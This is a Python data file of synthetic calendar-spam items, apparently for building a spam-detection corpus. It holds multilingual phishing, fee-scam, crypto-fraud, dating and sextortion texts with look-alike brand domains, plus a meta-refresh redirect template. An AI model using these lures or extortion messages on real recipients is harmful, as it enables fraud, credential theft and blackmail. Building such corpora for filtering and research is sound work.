# -*- coding: utf-8 -*-
"""Hand-written spam items. Each item describes the lure, the sender set-up and where the payload sits;
the generator adds names, dates, clients, transport and encodings. Everything here was written for this corpus."""

ITEMS = []

CATDOC = {
    "retail-sale-wave": "counterfeit / outlet 'sale' waves (sunglasses, boots, bags, electronics) pushed as calendar events",
    "prize-survey-giftcard": "you-won, loyalty-points, survey-reward and gift-card lures",
    "crypto-investment": "crypto and trading fraud, 'AI bots', recovery scams, pig-butchering follow-ups",
    "dating-sextortion": "adult dating lures and sextortion/blackmail demands with crypto addresses",
    "fee-scam": "small-fee lures: parcel redelivery, customs, tolls, traffic fines, tax refunds",
    "credential-phish": "credential phishing under big brands (Microsoft 365, DocuSign, PayPal, banks, Adobe, Dropbox, government)",
    "callback-scam": "fake renewal/invoice notices that only give a phone number to call",
    "fake-update-lure": "fake meeting-client/browser updates and 'paste this command' lures",
    "bec": "business e-mail compromise: CEO fraud, gift cards, supplier bank-detail and payroll changes",
    "advance-fee": "inheritance, lottery, compensation and loan advance-fee fraud",
    "task-job-scam": "fake jobs and 'task' scams that move victims to WhatsApp/Telegram",
    "compromised-doc-share": "document-share lures sent from compromised real partner mailboxes",
    "nagging-payload": "calendar abuse: endless recurrence, many alarms, far-future or dozens of events",
    "mass-invite": "unsolicited invitations sent to hundreds of unrelated attendees",
}


def S(cat, lang, d, kind, summary, body=None, **kw):
    it = dict(cat=cat, lang=lang, d=d, kind=kind, summary=summary, body=body)
    it.update(kw)
    ITEMS.append(it)


HTML_REDIRECT = (b'<!DOCTYPE html><html><head><meta charset="utf-8"><title>Document</title>'
                 b'<meta http-equiv="refresh" content="0;url=https://onedrive-docs-viewer.com/s/%s"></head>'
                 b'<body><p>Loading secure document&hellip;</p></body></html>')

# =============================================================================== retail-sale-wave
C = "retail-sale-wave"
S(C, "en", "iCloud-era sunglasses sale spam, link in description and location", "free", clients=["icloud"], variant="server",
  yr=(2016, 2016), when="soon",
  summary="Ray-Ban Sunglasses 85% OFF!! Only $19.99 Today",
  body="Ray-Ban Sunglasses Clearance Sale\n85% OFF - All Styles Only $19.99\nwww.rb-sunglass-sale2016.com\nFree Shipping Worldwide, Last Day!",
  loc="www.rb-sunglass-sale2016.com")
S(C, "en", "winter-coat outlet spam sent through a calendar service to many guests", "free", clients=["google"],
  when="soon", att="mass:35",
  summary="Canada Goose Outlet - Winter Clearance up to 80% off",
  body="Hi,\n\nOur winter clearance is on now. Parkas, bombers and vests up to 80% off, limited stock.\n\nShop: https://canadagoose-clearance.top/?c={rnd}\n\nOffer ends {day}.")
S(C, "en", "charms 'exclusive coupon' with the shop link only in LOCATION", "free", clients=["outlook", "yahoo"],
  when="soon",
  summary="Your exclusive Black Friday coupon inside",
  body="Thanks for being a valued customer. Your personal coupon code {code} is valid until midnight.",
  loc="https://pandora-charms-outlet.shop/bf?code={code}")
S(C, "en", "cheap boots spam from a free-mail account, short text", "free", when="soon", clients=["yahoo", "icloud", "google"],
  summary="UGG Classic boots $39 - last sizes",
  body="Classic Short II / Mini / Tall - all $39.00 today only. Sizes 5-11 while stock lasts.\nhttps://tinyurl.com/ugg-{rnd}")
S(C, "en", "electronics flash sale from a bulk tool, URL property, no METHOD", "vps", clients=["handrolled", "list"], listable=True,
  when="now", yr=(2021, 2026), quirks=["no-method"], hand=dict(prodid="-//Events//EN", layout="mixed"),
  summary="Flash sale: Dyson V15 Detect for $129 (92 units left)",
  body="Warehouse clearance - genuine Dyson V15 Detect cordless vacuum, sealed box.\nRRP $749, today $129.\nClaim yours before it's gone.",
  url="https://dyson-warehouse-deals.shop/v15?ref={rnd}", u="https://dyson-warehouse-deals.shop/v15?ref={rnd}")
S(C, "de", "German sunglasses sale spam via calendar invitation", "free",
  when="soon",
  summary="Ray-Ban Sonnenbrillen -80% – nur heute",
  body="Sonnenbrillen-Räumungsverkauf!\nAlle Modelle nur 24,99 €, kostenloser Versand.\nJetzt bestellen: https://rayban-sonnenbrillen-de.shop\nAngebot gilt nur bis {day}.")
S(C, "fr", "French handbag sale spam, link hidden in location", "free",
  when="soon",
  summary="Soldes Michael Kors : sacs à -75%",
  body="Derniers jours des soldes ! Sacs, portefeuilles et montres jusqu'à -75 %. Livraison gratuite dès 50 €.",
  loc="https://mk-soldes-france.store")
S(C, "zh", "Chinese-language sunglasses/bag sale spam with WeChat contact", "free", clients=["icloud", "google", "outlook"],
  yr=(2016, 2019), when="soon",
  summary="雷朋太阳镜 全场1折 包邮",
  body="雷朋、古驰、普拉达太阳镜清仓特卖，全场1折，包邮到家！\n官网：www.lp-tyj-temai.com\n咨询请加微信：tyj{rnd}\n活动仅限今天！")
S(C, "ja", "Japanese brand-bag sale spam", "free", clients=["icloud", "google", "yahoo"],
  when="soon",
  summary="【本日限定】ブランドバッグ最大90%OFF",
  body="いつもご利用ありがとうございます。\n本日限定でルイヴィトン・シャネル・グッチのバッグが最大90%OFF！\n▼ご購入はこちら\nhttps://brand-bag-outlet-jp.shop/?id={rnd}\n※在庫がなくなり次第終了します。")
S(C, "ko", "Korean luxury-bag ad pushed to calendar", "free", when="soon",
  summary="[광고] 명품 가방 최대 85% 할인 – 오늘만",
  body="(광고) 정품 명품 가방 창고 대방출!\n최대 85% 할인, 무료 배송\n바로가기: https://myungpum-sale.shop/{rnd}\n수신거부: 회신 주시면 처리해 드립니다.")
S(C, "es", "Spanish sneaker flash-sale spam via a calendar list copy", "vps", clients=["list", "handrolled", "thunderbird"], listable=True,
  when="soon",
  summary="Oferta relámpago: zapatillas Nike -70%",
  body="¡Solo 24 horas! Air Max, Jordan y Dunk con un 70% de descuento.\nEnvío gratis a toda España.\nCompra aquí: https://nike-outlet-espana.shop/oferta")
S(C, "it", "Italian down-jacket sale spam from compromised webmail", "compromised", slang="it",
  when="soon",
  summary="Saldi Moncler fino all'80% – solo 48 ore",
  body="Piumini Moncler originali fino all'80% di sconto.\nSpedizione gratuita in 24/48h.\nVisita: https://moncler-saldi-italia.shop")

# =============================================================================== prize-survey-giftcard
C = "prize-survey-giftcard"
S(C, "en", "gift-card survey lure through a free calendar account", "free", clients=["google"],
  when="soon",
  summary="Congratulations! You've been selected for a $1,000 Walmart gift card",
  body="Dear customer,\n\nYou have been randomly selected to participate in our 30-second customer survey. As a thank you, you can claim a $1,000 Walmart gift card.\n\nClaim here: https://sites.google.com/view/wm-reward-{rnd}\n\nReference: {code}")
S(C, "en", "membership-reward lure from look-alike domain through a scheduling layout", "lookalike", dom="costco-member-rewards.com",
  fn="Costco Member Rewards", clients=["booking", "handrolled"], when="soon",
  bbrand=dict(name="Costco Member Rewards", domain="costco-member-rewards.com", prodid="-//Member Rewards//Calendar//EN", color="#005daa",
              footer="You received this email because you are a member. Unsubscribe."),
  subject="Your member appreciation reward is ready ({code})",
  summary="Claim your Member Appreciation Reward",
  body="As a thank-you for your membership we have reserved a reward for you. Complete the short questionnaire to choose your gift.",
  rows=[("Reward", "Choice of appliance or $90 voucher"), ("Reserved until", "{date}"), ("Reward code", "{code}")],
  button=("Claim reward", "https://costco-member-rewards.com/claim?c={code}"))
S(C, "en", "points-expiry lure with link only in LOCATION", "free", clients=["outlook", "icloud"],
  when="soon",
  summary="3 days left: use your 5,680 loyalty points",
  body="Your points will expire soon. Redeem them for a gift of your choice before they are lost.",
  loc="https://points-redeem-center.online/r/{tok8}")
S(C, "en", "phone-prize 'pending delivery reward' lure", "free", clients=["icloud", "yahoo"],
  when="now",
  summary="(1) pending reward: Apple iPhone 15 Pro - confirm delivery",
  body="Your reward is waiting for delivery. Only a shipping fee of $1.95 is required.\nConfirm: https://bit.ly/3{rnd2}")
S(C, "en", "airline-miles survey lure from spoofed sender, HTML only in X-ALT-DESC", "spoof", dom="deltamilesurvey.com", fn="SkyMiles Survey",
  clients=["handrolled", "booking"], when="soon",
  summary="Final notice: your $100 survey reward",
  body="Please see details.",
  xalt='<html><body><p>Dear valued flyer,</p><p>Your <b>$100 reward</b> expires today. <a href="https://sky-survey-reward.click/{tok8}">Complete the survey</a> to receive it.</p></body></html>')
S(C, "en", "telecom 'loyal customer gift' lure", "free", clients=["yahoo", "outlook", "google"], when="soon",
  summary="Thank you for being a loyal customer - claim your gift",
  body="As one of our longest-standing customers you qualify for a free Samsung Galaxy device. Only 12 left in your area.\n\nConfirm your eligibility: https://loyal-gift-check.site/tm?u={rnd}")
S(C, "pt", "Brazilian cosmetics-kit prize lure", "free", when="soon",
  summary="Parabéns! Você ganhou um kit O Boticário",
  body="Olá!\nVocê foi sorteado(a) na nossa promoção de aniversário e ganhou um kit completo O Boticário.\nPara receber, confirme seu endereço e pague apenas o frete de R$ 12,90:\nhttps://kit-boticario-premio.online/{rnd}")
S(C, "es", "Spanish supermarket survey gift-card lure", "lookalike", dom="encuesta-mercadona.es", fn="Mercadona Encuestas",
  clients=["booking", "handrolled", "thunderbird", "outlook"], when="soon",
  summary="Encuesta Mercadona: gane una tarjeta regalo de 500 €",
  body="Estimado cliente:\nResponda a 5 preguntas sobre su experiencia de compra y participe en el sorteo de una tarjeta regalo de 500 €.\nAcceda aquí: https://encuesta-mercadona.es/q?id={tok8}",
  rows=[("Premio", "Tarjeta regalo 500 €"), ("Fecha límite", "{day}")], button=("Empezar encuesta", "https://encuesta-mercadona.es/q?id={tok8}"))
S(C, "fr", "French supermarket gift-card lure via calendar list copy", "vps", clients=["list", "handrolled", "booking", "nextcloud"], listable=True,
  when="soon",
  summary="Félicitations ! Votre carte cadeau Carrefour de 500 € vous attend",
  body="Bonjour,\nVous faites partie des 100 clients tirés au sort. Répondez à notre questionnaire de satisfaction pour recevoir votre carte cadeau de 500 €.\nhttps://carte-cadeau-fr.live/c/{rnd}")
S(C, "de", "German discount-store voucher lure", "free", when="soon",
  summary="Ihr Treuebonus: 250 € Lidl-Gutschein – nur noch heute",
  body="Hallo,\nals Dankeschön für Ihre Treue erhalten Sie einen 250-€-Gutschein. Beantworten Sie dazu einfach drei kurze Fragen.\nhttps://lidl-bonus.shop/de/{rnd}\nDas Angebot endet heute um 23:59 Uhr.")
S(C, "pl", "Polish supermarket voucher lure", "free", when="soon",
  summary="Gratulacje! Wygrałeś bon Biedronka o wartości 1000 zł",
  body="Drogi Kliencie,\nzostałeś wylosowany w naszej loterii urodzinowej. Aby odebrać bon o wartości 1000 zł, wypełnij krótką ankietę:\nhttps://biedronka-nagroda.online/ankieta?{rnd}")
S(C, "ar", "Arabic shopping gift-card prize lure", "free", when="soon",
  summary="مبروك! ربحت بطاقة شراء بقيمة 1000 ريال",
  body="عزيزي العميل،\nتم اختيارك عشوائياً للفوز ببطاقة شراء بقيمة 1000 ريال من متجر نون.\nلاستلام الجائزة أجب عن الاستبيان القصير خلال 24 ساعة:\nhttps://noon-gift-ksa.online/{rnd}")

# =============================================================================== crypto-investment
C = "crypto-investment"
S(C, "en", "dormant-wallet 'recovery' lure with seed-phrase form link", "free", when="soon",
  summary="Action required: dormant wallet balance 0.8741 BTC",
  body="Our records show an inactive wallet linked to your e-mail with a balance of 0.8741 BTC.\nTo release the funds, verify ownership within 48 hours:\nhttps://wallet-recovery-desk.com/verify?u={tok8}\n\nSupport team")
S(C, "en", "AI trading-bot webinar sent from a real webinar platform account", "zoomsvc", clients=["zoom"],
  fn="Quantum Edge Academy", when="week", hour=19,
  subject="Quantum Edge Academy invited you to a private webinar",
  summary="Private webinar: the AI trading bot that returns 3.2% daily",
  body="Join our founder live and see the AI arbitrage bot that made our members 3.2% per day.\nOnly 50 seats. Minimum starting capital $250.\nRegister your account before the session: https://quantumedge-ai.pro/start",
  mailnote="Hello,\n\nYou are invited to a Zoom webinar.\nTopic: Private webinar: the AI trading bot that returns 3.2% daily\n\nPlease click the link below to join the webinar.",)
S(C, "en", "double-your-BTC giveaway, payload address in description", "vps", clients=["handrolled", "booking"],
  when="now", dur=120, quirks=["method-mismatch"], hand=dict(prodid="-//Google Inc//Google Calendar 70.9054//EN", layout="alt"),
  summary="LIVE: 5,000 BTC giveaway - send 0.1 get 0.2 back",
  body="To celebrate our new partnership we are giving away 5,000 BTC.\nSend between 0.1 and 20 BTC to the address below and receive double back instantly.\n\n{btc}\n\nLive stream: https://btc-x2-event.live")
S(C, "en", "broker 'account manager' onboarding call for a fake trading platform", "lookalike", dom="nexacapital-trade.com", fn="Nexa Capital",
  clients=["google", "outlook", "booking"], when="soon",
  summary="Onboarding call with your personal account manager",
  body="Dear {rfirst},\n\nthank you for registering. Your account manager will call you to activate your trading account. Please have your ID and a deposit of at least $250 ready.\n\nClient area: https://client.nexacapital-trade.com/login",
  loc="Phone call")
S(C, "en", "portfolio review lure from free mail, short polite text", "free", when="soon",
  summary="Re: your portfolio review",
  body="Hi {rfirst}, as discussed, here is the link to our platform where you can see the 27% monthly results: https://t.me/+{tok8}\nMin. deposit $250. Talk soon.")
S(C, "en", "USDT mining-pool follow-up from a 'friend' (pig-butchering)", "free", listable=True, when="soon",
  summary="the USDT liquidity mining event I told you about",
  body="Hi dear, here is the official link of the liquidity mining pool. Connect your wallet and you receive 1.8% every day, I already made 12,000 USDT this month 😊\nhttps://defi-usdt-pool.vip/?inv={code}\nIf you have questions message me on WhatsApp {wa}")
S(C, "ru", "Russian passive-income crypto webinar", "free", when="week", hour=20, clients=["google", "outlook", "zoom", "yahoo", "thunderbird"],
  summary="Пассивный доход от 150 000 ₽ в месяц на криптовалюте",
  body="Приглашаем на бесплатный вебинар!\nПокажем, как наши ученики зарабатывают от 150 000 ₽ в месяц на арбитраже криптовалют без опыта.\nРегистрация: https://kripto-dohod.online/veb\nКоличество мест ограничено.")
S(C, "tr", "Turkish crypto training lure", "free", when="week", clients=["google", "outlook", "zoom", "icloud"],
  summary="Kripto eğitimi: günde %5 kazanç – ücretsiz webinar",
  body="Merhaba,\nUzman analistlerimizle günlük %5 kazanç stratejisini öğrenin.\nKatılım ücretsiz, kontenjan sınırlı.\nKayıt: https://kripto-akademi-tr.online/kayit\nWhatsApp destek: {wa}")
S(C, "vi", "Vietnamese crypto investment lure", "free", when="soon",
  summary="Cơ hội đầu tư tiền số lợi nhuận 30%/tháng",
  body="Chào anh/chị,\nQuỹ đầu tư của chúng tôi cam kết lợi nhuận 30% mỗi tháng, rút vốn bất cứ lúc nào.\nTham gia nhóm Telegram để được hướng dẫn: https://t.me/dautu_{rnd}\nSố lượng có hạn!")
S(C, "ko", "Korean coin pump 'VIP room' ad", "vps", clients=["handrolled", "thunderbird", "booking", "nextcloud"],
  when="soon",
  summary="[VIP 리딩방] 코인 급등 종목 무료 공개",
  body="(광고) 이번 주 300% 급등 예정 코인 무료 공개!\n전문 리더가 매수·매도 타이밍을 실시간으로 알려드립니다.\n카카오톡 오픈채팅: https://open.kakao.com/o/s{rnd}\n무료수신거부 080-000-0000")
S(C, "ar", "Arabic guaranteed-profit crypto investment lure", "free", when="soon",
  summary="فرصة استثمارية: أرباح يومية مضمونة بالعملات الرقمية",
  body="مرحباً،\nانضم إلى منصتنا للتداول الآلي واحصل على أرباح يومية تصل إلى 4٪.\nالحد الأدنى للإيداع 250 دولار فقط.\nسجّل الآن: https://crypto-arab-profit.com/ar\nللتواصل واتساب: {wa}")
S(C, "zh", "Chinese USDT 'wealth management' fraud", "free", when="soon", listable=True,
  summary="USDT理财 日收益3% 稳赚不赔",
  body="USDT 理财计划，日收益 3%，随存随取，平台担保。\n新用户注册即送 20 USDT 体验金。\n官网：https://usdt-licai.vip/zh?code={code}\n客服 Telegram：{tg}")

# =============================================================================== dating-sextortion
C = "dating-sextortion"
S(C, "en", "dating lure with profile link in description", "free", when="now",
  summary="Anna (24) wants to meet you tonight",
  body="Hey! I saw your profile and I think you are cute 😘 I'm free tonight, are you?\nMy photos are here: https://hotdates-near.me/anna{rnd}")
S(C, "en", "iCloud-era 'private photos' dating spam", "free", clients=["icloud"], yr=(2016, 2018), when="soon",
  summary="Private photos for you ♥ click to see",
  body="I send you my private photos, you can see them on my page ♥\nhttp://meet-lonely-girls.club/?p={rnd}")
S(C, "en", "sextortion demand sent as if from the victim's own address", "spoof", dom="RCPT", fl="RCPTLOCAL",
  clients=["handrolled", "outlook", "thunderbird"], att="bcc", when="now",
  summary="I know your secret. Payment required",
  body="Hello,\n\nI have access to your device and I recorded you through your camera while you were visiting adult websites. I have also copied your contacts.\n\nSend $1,450 in Bitcoin to this address within 48 hours:\n{btc}\n\nIf I do not receive the payment, the video will be sent to all your contacts. Do not reply to this message, I will know when you open it.")
S(C, "en", "'lonely housewives' adult dating spam", "vps", clients=["handrolled", "booking", "list"], listable=True,
  when="soon", quirks=["lf-in-b64"], fold="char", hand=dict(prodid="-//PHP//iCal 1.0//EN", layout="mixed"),
  summary="3 new messages from women in your area",
  body="You have 3 unread messages waiting. Registration is free today only.",
  loc="https://local-flirt-app.online/inbox?m=3")
S(C, "en", "sextortion variant quoting an old password, BTC address", "vps", clients=["handrolled", "thunderbird", "outlook"],
  when="now",
  summary="Security notice: your device was compromised",
  body="I know that {ruser}2019 is one of your passwords. I installed software on a website you visited and I have a recording of you.\n\nMy bitcoin wallet: {btc}\nAmount: $1,900\nYou have 2 days.")
S(C, "en", "singles-meet spam via a list", "free", listable=True, clients=["list", "google", "yahoo"], when="soon",
  summary="Meet singles near you - free registration ends today",
  body="Thousands of singles are waiting. Free registration ends tonight!\nhttps://singles-meet-today.site/?s={rnd}")
S(C, "ru", "Russian dating lure", "free", when="soon",
  summary="Катя хочет с вами познакомиться",
  body="Привет! Я Катя, 26 лет. Увидела твою анкету и хочу познакомиться поближе 😉\nМои фото тут: https://znakomstva-ryadom.online/k{rnd}")
S(C, "ja", "Japanese dating-site lure", "free", when="now",
  summary="【新着メッセージ】近くの女性があなたに会いたがっています",
  body="あなた宛てに未読メッセージが3件あります。\n今すぐ確認：https://deai-match-jp.site/m/{rnd}\n※本日中に確認しないと削除されます。")
S(C, "de", "German dating lure", "free", when="soon",
  summary="Du hast 2 neue Nachrichten von Jessica (27)",
  body="Jessica hat dir geschrieben: „Hey, hast du heute Abend Zeit? 😊“\nNachricht lesen: https://flirt-treff24.online/msg/{rnd}")
S(C, "es", "Spanish dating lure", "free", when="now",
  summary="Hola guapo, ¿nos vemos esta noche?",
  body="Hola, soy Laura. Vi tu perfil y me gustaría conocerte. Mira mis fotos aquí 👉 https://citas-cerca.site/l{rnd}")
S(C, "th", "Thai dating lure", "free", when="soon",
  summary="สาวๆ ใกล้คุณอยากคุยด้วย คลิกเลย",
  body="มีสาวๆ ในพื้นที่ของคุณส่งข้อความถึงคุณ 5 ข้อความ\nดูโปรไฟล์ได้ที่: https://hathai-dating.site/th/{rnd}\nสมัครฟรีวันนี้เท่านั้น")

# =============================================================================== fee-scam
C = "fee-scam"
S(C, "en", "postal redelivery-fee lure from look-alike domain, booking-system layout", "lookalike", dom="usps-redelivery-schedule.com",
  fn="USPS Delivery", clients=["booking", "handrolled"], when="soon", method="PUBLISH",
  bbrand=dict(name="USPS Redelivery", domain="usps-redelivery-schedule.com", prodid="-//Redelivery//Scheduler 1.0//EN", color="#333366",
              footer="This is an automated message. Please do not reply."),
  subject="Your package could not be delivered - schedule redelivery",
  summary="Package redelivery window",
  body="We attempted to deliver your package but the address was incomplete. Please confirm your address and pay the $1.99 redelivery fee within 24 hours, otherwise the package will be returned.",
  rows=[("Tracking", "US9{num}"), ("Fee", "$1.99"), ("Redelivery", "{date}")],
  button=("Schedule redelivery", "https://usps-redelivery-schedule.com/track?id=US9{num}"))
S(C, "en", "unpaid-toll lure from free mail", "free", clients=["google", "icloud", "outlook"], when="soon",
  summary="E-ZPass: unpaid toll balance $6.89",
  body="Our records show an unpaid toll of $6.89. To avoid a late fee of $50.00, please settle your balance today:\nhttps://ezpass-tollservices.info/pay")
S(C, "en", "tax-refund lure spoofing a revenue authority", "spoof", dom="hmrc.gov.uk", fn="HMRC", dmarc="REJECT",
  clients=["handrolled", "booking"], when="soon",
  summary="You are eligible for a tax refund of £612.40",
  body="After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of £612.40.\nPlease submit the refund request: https://refund-gov-uk.online/claim/{tok8}")
S(C, "en", "missed-delivery reschedule lure with fee, link only in location", "lookalike", dom="royalmail-reschedule.co", fn="Royal Mail",
  clients=["outlook", "handrolled", "thunderbird"], when="past",
  summary="We missed you - reschedule your delivery",
  body="Your item could not be delivered. A £2.99 redelivery charge applies.",
  loc="https://royalmail-reschedule.co/r/{tok8}")
S(C, "en", "customs-duty lure with fake airway bill", "vps", clients=["thunderbird", "handrolled", "zimbra", "sogo"], when="soon",
  summary="DHL Express: customs duty payment required (AWB {num})",
  body="Your shipment AWB {num} is held at customs. Import duty of $3.20 must be paid before release.\nPay online: https://dhl-customs-fee.top/awb/{num}")
S(C, "fr", "French traffic-fine lure", "lookalike", dom="antai-amendes-gouv.fr", fn="ANTAI", clients=["handrolled", "booking", "outlook", "thunderbird"],
  when="soon",
  summary="ANTAI : avis de contravention non réglé",
  body="Madame, Monsieur,\nSauf erreur de notre part, l'amende forfaitaire de 35 € relative à votre infraction n'a pas été réglée. Passé le délai, elle sera majorée à 75 €.\nRéglez en ligne : https://antai-amendes-gouv.fr/paiement?avis={num}")
S(C, "es", "Spanish traffic-fine lure", "vps", clients=["handrolled", "booking", "nextcloud", "thunderbird"], when="soon",
  summary="DGT: multa pendiente de pago – 100 €",
  body="Le informamos de que tiene una sanción de tráfico pendiente de pago por importe de 100 €. Si abona en los próximos 3 días se aplicará una reducción del 50 %.\nConsulte y pague: https://dgt-multas-pago.es/consulta")
S(C, "it", "Italian motorway-toll lure", "free", when="soon",
  summary="Autostrade: pedaggio non pagato – regolarizza entro 48 ore",
  body="Gentile cliente,\nrisulta un pedaggio non pagato di 5,80 €. Per evitare la sanzione regolarizza entro 48 ore:\nhttps://autostrade-pagamenti.online/pedaggio")
S(C, "pt", "Brazilian postal customs-fee lure", "lookalike", dom="correios-rastreio-taxa.com", fn="Correios",
  clients=["booking", "handrolled"], when="soon",
  bbrand=dict(name="Correios", domain="correios-rastreio-taxa.com", prodid="-//Rastreio//Agenda//PT", color="#ffd400"),
  summary="Sua encomenda está retida – taxa de R$ 24,90",
  body="Sua encomenda foi tributada e está aguardando pagamento da taxa de importação de R$ 24,90. Após 3 dias úteis o objeto será devolvido ao remetente.",
  rows=[("Código de rastreio", "NL{num}BR"), ("Taxa", "R$ 24,90")], button=("Pagar taxa", "https://correios-rastreio-taxa.com/pagar?o=NL{num}BR"))
S(C, "de", "German customs-fee lure", "free", when="soon",
  summary="Zoll: Ihre Sendung wartet – Einfuhrabgaben 3,49 €",
  body="Sehr geehrte Kundin, sehr geehrter Kunde,\nfür Ihre Sendung fallen Einfuhrabgaben in Höhe von 3,49 € an. Bitte begleichen Sie den Betrag innerhalb von 48 Stunden:\nhttps://zoll-sendung-freigabe.com/{rnd}")
S(C, "nl", "Dutch fine-collection agency lure", "vps", clients=["handrolled", "booking", "sogo", "zimbra", "nextcloud"], when="soon",
  summary="CJIB: openstaande boete – betaal binnen 3 dagen",
  body="Geachte heer/mevrouw,\nUit onze administratie blijkt dat een boete van € 89,00 nog niet is betaald. Betaal binnen 3 dagen om verhoging te voorkomen.\nBetalen: https://cjib-betaling.online/boete/{num}")
S(C, "el", "Greek courier-fee lure", "free", when="soon",
  summary="ΕΛΤΑ Courier: Το δέμα σας βρίσκεται σε αναμονή",
  body="Το δέμα σας δεν παραδόθηκε λόγω απλήρωτων τελών αποστολής (1,99 €).\nΕπιβεβαιώστε τη διεύθυνσή σας και πληρώστε εδώ: https://elta-paradosi.online/gr/{rnd}")

# =============================================================================== credential-phish
C = "credential-phish"
S(C, "en", "Microsoft 365 password-expiry phish from look-alike tenant", "lookalike", dom="m365-account-services.com", fn="Microsoft 365",
  clients=["outlook", "handrolled", "booking"], when="now", dur=15,
  summary="Password expiry notice: your password expires today",
  body="The password for {remail} expires today. To keep using your current password, confirm it below.\n\nKeep current password: https://m365-account-services.com/owa/keep?u={remail}\n\nMicrosoft 365 Admin")
S(C, "en", "e-signature phish from a compromised company mailbox, link in location only", "compromised",
  clients=["outlook", "google", "zimbra", "icloud"], when="soon",
  summary="DocuSign: please review and sign - Contract Amendment",
  body="Please review the attached contract amendment at your earliest convenience.\n\nThank you,\n{sname}",
  loc="https://docusign-esign-review.com/Signing/?env={hex}")
S(C, "en", "PayPal account-limitation phish, link hidden in X-ALT-DESC", "spoof", dom="paypal-service-center.com", fn="PayPal",
  clients=["handrolled", "outlook", "booking"], when="now", fold="char74",
  summary="Unusual sign-in activity",
  body="We noticed unusual activity on your account. Please review it.",
  xalt='<html><body style="font-family:Arial"><img src="https://paypal-service-center.com/img/pp-logo.png" alt="PayPal"><p>We noticed a sign-in from a new device. Your account has been <b>temporarily limited</b>.</p><p><a href="https://paypal-service-center.com/signin?cmd=_restore&amp;id={tok8}">Restore access</a></p></body></html>')
S(C, "en", "Adobe document phish via calendar with Drive attachment", "free", clients=["google"], when="soon",
  summary="Adobe Acrobat: secure document shared with you",
  body="A secure PDF document has been shared with you via Adobe Document Cloud. Open the attachment to view it.",
  attach=[dict(uri="https://docs.google.com/presentation/d/1{tok}/pub", fmttype="application/vnd.google-apps.presentation", filename="Secure Document (PDF)")])
S(C, "en", "Dropbox share phish from a compromised self-hosted cloud", "compromised", clients=["nextcloud", "sogo", "thunderbird", "zimbra"], when="soon",
  summary="{sname} shared \"Remittance_Advice.pdf\" with you",
  body="{sname} has shared a file with you via Dropbox.\n\nRemittance_Advice.pdf (214 KB)\nView file: https://dropbox-sharedfiles.net/s/{tok}\n\nThis link expires in 24 hours.")
S(C, "en", "bank 'account review appointment' phish from look-alike scheduler", "lookalike", dom="chase-secure-review.com", fn="Chase Online",
  clients=["booking", "handrolled"], when="soon",
  bbrand=dict(name="Chase Online", domain="chase-secure-review.com", prodid="-//Appointments//Scheduler//EN", color="#117aca",
              footer="JPMorgan Chase Bank, N.A. Member FDIC"),
  summary="Scheduled account review",
  body="For your security we have scheduled a review of your online access. Please verify your identity before the appointment to avoid a temporary hold.",
  rows=[("Appointment", "{date}"), ("Case", "{ref}")], button=("Verify identity", "https://chase-secure-review.com/verify/{tok8}"))
S(C, "en", "government benefits statement phish, URL property", "vps", clients=["handrolled", "booking", "thunderbird", "sogo"], when="soon",
  hand=dict(prodid="-//sebbo.net//ical-generator//EN", tzmode="utc"), fold="none", quirks=["no-ct-method"],
  summary="Your Social Security statement is ready",
  body="Your annual statement is ready to view. Sign in to your account to download it.",
  url="https://ssa-gov-statement.com/myaccount/{tok8}")
S(C, "en", "voicemail-notification phish from compromised webmail, link in location", "compromised", clients=["sogo", "zimbra", "outlook", "nextcloud"],
  when="now", dur=15,
  summary="Voicemail received (0:47) - listen in Microsoft Teams",
  body="You have received a new voicemail from +1 (555) 010-{n3}{n2}. Duration 0:47.",
  loc="https://teams-voicemail-listen.com/vm/{tok8}")
S(C, "de", "German savings-bank TAN phish", "lookalike", dom="sparkasse-pushtan-update.de", fn="Sparkasse",
  clients=["handrolled", "booking", "outlook", "thunderbird"], when="soon",
  summary="Aktualisierung pushTAN-Verfahren erforderlich",
  body="Sehr geehrte Kundin, sehr geehrter Kunde,\naufgrund neuer Sicherheitsrichtlinien müssen Sie Ihr pushTAN-Verfahren bis zum {day} aktualisieren. Andernfalls wird Ihr Online-Banking-Zugang eingeschränkt.\nJetzt aktualisieren: https://sparkasse-pushtan-update.de/login")
S(C, "fr", "French health-insurance card phish", "free", when="soon",
  summary="Ameli : mise à jour de votre carte Vitale",
  body="Madame, Monsieur,\nVotre carte Vitale arrive à expiration. Afin de continuer à bénéficier de vos remboursements, commandez votre nouvelle carte (frais d'envoi 0,99 €) :\nhttps://ameli-carte-vitale.online/renouvellement")
S(C, "ja", "Japanese credit-card usage-confirmation phish", "lookalike", dom="smbc-card-kakunin.com", fn="三井住友カード",
  clients=["handrolled", "booking", "outlook", "thunderbird"], when="now",
  summary="【重要】ご利用確認のお願い",
  body="いつも三井住友カードをご利用いただきありがとうございます。\nお客様のカードに第三者による不正利用の可能性がある取引を検知しました。\n下記よりご本人確認をお願いいたします。\nhttps://smbc-card-kakunin.com/vpass/login\n※24時間以内にご確認いただけない場合、カードのご利用を制限させていただきます。")
S(C, "nl", "Dutch bank card-renewal phish", "spoof", dom="ing.nl", fn="ING", dmarc="REJECT",
  clients=["handrolled", "thunderbird", "booking"], when="soon",
  summary="Verlenging van uw betaalpas – actie vereist",
  body="Beste klant,\nUw betaalpas verloopt binnenkort. Vraag vóór {day} een nieuwe pas aan om blokkering te voorkomen.\nhttps://ing-paspoort-verlengen.online/aanvragen")
S(C, "pl", "Polish bank account-verification phish", "free", when="soon",
  summary="mBank: wymagana weryfikacja konta",
  body="Szanowny Kliencie,\nz powodu aktualizacji systemu bezpieczeństwa konieczna jest weryfikacja Twojego konta. Zaloguj się do {day}:\nhttps://mbank-weryfikacja.online/logowanie")
S(C, "pt", "Brazilian bank registration-update phish, link in location", "compromised", slang="pt", when="soon",
  clients=["outlook", "zimbra", "google", "sogo"],
  summary="Itaú: atualização cadastral obrigatória",
  body="Prezado cliente, identificamos pendências no seu cadastro. Regularize até {day} para evitar o bloqueio do seu cartão.",
  loc="https://itau-atualizacao-cadastral.com/acesso")

# =============================================================================== callback-scam
C = "callback-scam"
S(C, "en", "tech-support renewal callback lure, phone number only", "free", tollfree=True, clients=["google", "outlook", "yahoo"], when="soon",
  summary="Geek Squad: your 2-year protection plan was renewed - $399.99",
  body="Hello {rfirst},\n\nThank you for renewing your Geek Squad Total Protection plan.\n\nOrder ID: GS-{num}\nAmount: $399.99\nPayment method: auto-debit\n\nIf you did not authorize this renewal, call our billing desk within 24 hours: {phone}\n\nRegards,\nBilling Department")
